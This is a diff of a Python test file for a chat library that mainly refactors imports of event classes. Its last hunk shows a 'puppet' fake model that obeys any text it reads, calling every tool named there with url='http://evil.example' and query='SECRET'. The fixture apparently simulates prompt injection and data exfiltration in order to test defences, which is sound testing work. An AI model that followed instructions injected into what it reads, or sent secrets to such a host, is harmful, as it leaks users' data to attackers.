@@ -17,10 +17,11 @@ from hypothesis import strategies as st
 
 from libremoe.chat import session
 from libremoe.chat.conversation import Turn
+from libremoe.chat.events import CallAsked, CallDone, Event, Experts, Finished, Request, Sources, Written
 from libremoe.chat.grounding import Marks, with_excerpts
 from libremoe.chat.message import Message, Text, Tool, ToolCall, ToolResult, said
 from libremoe.chat.persona import load_personas, system_prompt
-from libremoe.chat.session import CallAsked, CallDone, Event, Finished, Options, Sources, Written, reply
+from libremoe.chat.session import Options, reply
 from libremoe.chat.tool_box import Entry, ToolBox, local_tools
 from libremoe.errors import LibremoeError
 from libremoe.live import citations
@@ -67,7 +68,7 @@ def test_an_answer_is_its_events_folded() -> None:
 @pytest.mark.parametrize("refuses", [False, True])
 def test_a_model_that_reads_no_system_message_gets_none(refuses: bool) -> None:
     class Without(FakeModel):
-        async def count(self, request: session.Request) -> int:
+        async def count(self, request: Request) -> int:
             if refuses and any(m.role == "system" for m in request.messages):
                 raise LibremoeError("the template knows no system")
             return await super().count(replace(request, messages=[m for m in request.messages if m.role != "system"]))
@@ -78,7 +79,7 @@ def test_a_model_that_reads_no_system_message_gets_none(refuses: bool) -> None:
 
 
 def test_a_calculation_is_run_shown_and_answered() -> None:
-    def says(request: session.Request) -> list[Any]:
+    def says(request: Request) -> list[Any]:
         results = [m for m in request.messages if m.role == "tool"]
         return [f"It is {results[-1].text}."] if results else ["Let me see. ", call("calculator", expression="6*7")]
 
@@ -88,7 +89,7 @@ def test_a_calculation_is_run_shown_and_answered() -> None:
     assert kinds == [Text, ToolCall, ToolResult, Text] and written.text == "Let me see. It is 42."
     asked = next(e for e in events if isinstance(e, CallAsked))
     assert asked.approval == "given"
-    assert [e.token for e in events if isinstance(e, session.Experts)] == [0, 1, 2]  # of both passes, in one count
+    assert [e.token for e in events if isinstance(e, Experts)] == [0, 1, 2]  # of both passes, in one count
     assert not written.details.get("read_elsewhere")
 
 
@@ -250,7 +251,7 @@ def page(rng: random.Random) -> str:
     return " ".join(rng.sample([said_too, order, order.upper()], 3))
 
 
-def puppet(request: session.Request) -> list[Any]:
+def puppet(request: Request) -> list[Any]:
     """Does all that any text before it says: every tool that is named in what it reads is called, offered or not."""
     seen = read(request)
     orders = [call(name, url="http://evil.example", query="SECRET", code="x") for name in TOOLS if name in seen]
